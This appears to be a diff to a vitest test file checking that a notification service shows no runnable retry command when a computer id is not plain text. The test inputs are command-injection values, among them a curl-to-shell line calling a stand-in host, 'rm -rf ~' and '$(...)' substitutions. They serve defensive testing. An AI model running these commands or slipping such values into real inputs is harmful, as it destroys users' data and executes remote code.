@@ -3,7 +3,8 @@
 // provisioning step shows what its install session said.
 import { describe, expect, it } from "vitest";
 import { defaultConfig } from "../../../src/config/default-config.js";
-import { noticeOf } from "../../../src/service/watch/notices.js";
+import { noticeOf, retryCommand } from "../../../src/service/watch/notices.js";
+import { validateConfig } from "../../../src/config/validate-config.js";
 
 const meta = { id: "n1", now: Date.parse("2026-11-25T09:00:00Z"), project: "svc.example" };
 const config = defaultConfig().value;
@@ -71,16 +72,15 @@ describe("noticeOf", () => {
     );
   });
 
-  it("quotes an id from the service in the command it offers", () => {
+  it("offers no runnable command for an id that is not plain; quotes a session id", () => {
     const computerId = "c1; rm -rf ~ $(id) 'x'";
     const n = noticeOf(
       { kind: "ComputerError", computerId, name: "box", status: "error", failedSteps: [] },
       config,
       meta,
     );
-    expect(n.body).toContain(
-      String.raw`hook-notify computers retry 'c1; rm -rf ~ $(id) '\''x'\'''`,
-    );
+    expect(n.body).not.toContain(`retry ${computerId}`);
+    expect(n.body).toContain("hook-notify computers retry <id> (this computer's id is not plain");
     const idle = noticeOf({ kind: "SessionIdle", sessionId: "s 1", from: "idle" }, config, meta);
     expect(idle.body).toContain(`hook-notify sessions send 's 1' "…"`);
   });
@@ -101,5 +101,41 @@ describe("noticeOf", () => {
     expect(n.body).toBe(
       "Provisioning step install-deps failed: npm ci exited 1\nThe install session said:\n- Running npm ci\n- npm ERR! missing lockfile\nRetry the dependencies step: hook-notify computers retry comp-1",
     );
+  });
+});
+
+const plainConfig = validateConfig({}, {}).value;
+
+function errorNotice(computerId: string) {
+  return noticeOf(
+    { kind: "ComputerError", computerId, name: "dev box", failedSteps: [{ name: "deps" }] },
+    plainConfig,
+    { id: "n1", now: 0, project: "service.example" },
+  );
+}
+
+describe("the suggested retry command", () => {
+  it("names a plain id as is", () => {
+    expect(errorNotice("comp-123_a.b").body).toContain(
+      "Retry the dependencies step: hook-notify computers retry comp-123_a.b",
+    );
+  });
+
+  // Issue 25: `hook-notify computers retry c1; curl … | sh #` reached Slack.
+  it.each([
+    "c1; curl -s http://x.example/p | sh #",
+    "c1 && rm -rf ~",
+    "$(touch /tmp/x)",
+    "`id`",
+    "c1\nrm -rf ~",
+    "-rf",
+    "c1'\"",
+  ])("shows no runnable command for the id %j", (id) => {
+    const body = errorNotice(id).body;
+    expect(body).not.toContain(`retry ${id}`);
+    expect(body).toContain(
+      "hook-notify computers retry <id> (this computer's id is not plain text",
+    );
+    expect(retryCommand(id)).not.toContain(id);
   });
 });
